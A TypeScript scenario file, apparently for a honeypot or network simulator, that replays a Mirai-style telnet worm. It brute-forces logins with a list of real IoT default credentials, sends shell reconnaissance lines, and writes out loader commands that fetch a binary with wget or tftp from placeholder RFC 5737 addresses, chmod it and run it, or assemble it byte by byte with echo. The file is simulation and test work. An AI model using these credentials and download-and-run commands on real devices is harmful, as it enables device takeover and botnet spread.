import { type Draw, pick, shuffled } from '../../src/kit/seeded.ts';
import { TelnetClient } from '../clients/telnet.ts';
import { crowd, defineScenario, type Source } from '../scenario.ts';

/** Accounts that devices ship with; the pairs that such worms carry. */
const credentials = [
  ['root', 'xc3511'],
  ['root', 'vizxv'],
  ['root', 'admin'],
  ['admin', 'admin'],
  ['root', '888888'],
  ['root', 'juantech'],
  ['support', 'support'],
  ['root', '54321'],
  ['guest', 'guest'],
  ['service', 'service'],
] as const;

const tries = 6;

/** Telnet worms: default passwords, a shell, then a program by whatever the device can fetch with, or typed in as escapes. */
export const mirai = defineScenario({
  name: 'mirai',
  summary: 'a telnet worm and its loader: default passwords, then a program',
  needs: ['telnet'],
  count: 6,
  async run(ground) {
    await crowd(ground, ground.count, 'worm', async (source, index) => {
      const client = await breakIn(source);
      if (!client) return;
      const way = ways[index % ways.length]!;
      ground.say(`${source.address} got in by telnet, and brings a program by ${way.name}`);
      const token = Array.from({ length: 6 }, () => pick(source.draw, [...'ABCDEFGHJKLMNPQRSTUVWXYZ'])).join(
        '',
      );
      for (const line of [...opening(token), ...way.lines(token, source.draw)])
        if ((await client.line(line)) === null) break;
      await client.close();
    });
  },
});

async function breakIn(source: Source): Promise<TelnetClient | null> {
  const pairs = shuffled(source.draw, credentials).slice(0, tries);
  let client: TelnetClient | null = null;
  for (let i = 0; i < pairs.length; ) {
    if (!client) {
      const connection = await source.dial('telnet');
      if (!connection) return null;
      client = new TelnetClient(connection);
    }
    const [user, secret] = pairs[i]!;
    const inside = await client.login(user, secret);
    if (inside) return client;
    i++;
    // Hung up on after a few wrong ones: it calls again.
    if (inside === null) {
      await client.close();
      client = null;
    }
  }
  await client?.close();
  return null;
}

/** Out of a vendor's menu, is it a shell, where can one write, what can one fetch with, which processor. */
const opening = (token: string): string[] => [
  'enable',
  'system',
  'shell',
  'sh',
  `cat /proc/mounts; /bin/busybox ${token}`,
  `cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox ${token}`,
  `tftp; wget; /bin/busybox ${token}`,
  `dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s`,
  `/bin/busybox ${token}`,
];

/** The head of an ELF file and nothing more: there is no program behind it. */
const elfHead = '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00';

interface Way {
  name: string;
  lines(token: string, draw: Draw): string[];
}

const names = ['boat', 'gemini', 'sora', 'kura'];

/** Addresses of RFC 5737: nobody has them. */
const ways: Way[] = [
  {
    name: 'wget',
    lines: (token, draw) => [
      `wget http://192.0.2.66/bins/${pick(draw, names)}.arm7 -O - > .d; chmod 777 .d; ./.d telnet.arm7; /bin/busybox ${token}`,
      'rm -rf .d',
    ],
  },
  {
    name: 'echo',
    lines: (token, draw) => [
      `echo -ne '${elfHead}' > .x && /bin/busybox ${token}`,
      ...Array.from(
        { length: 3 },
        () =>
          `echo -ne '${Array.from({ length: 48 }, () => `\\x${hex(draw)}`).join('')}' >> .x && /bin/busybox ${token}`,
      ),
      `chmod 777 .x; ./.x telnet.echo; /bin/busybox ${token}`,
    ],
  },
  {
    name: 'tftp',
    lines: (token, draw) => [
      `tftp -g -l .t -r ${pick(draw, names)}.mpsl 198.51.100.23; chmod 777 .t; ./.t telnet.mpsl; /bin/busybox ${token}`,
      '>.t; rm -rf .t',
    ],
  },
];

function hex(draw: Draw): string {
  return Math.floor(draw() * 256)
    .toString(16)
    .padStart(2, '0');
}
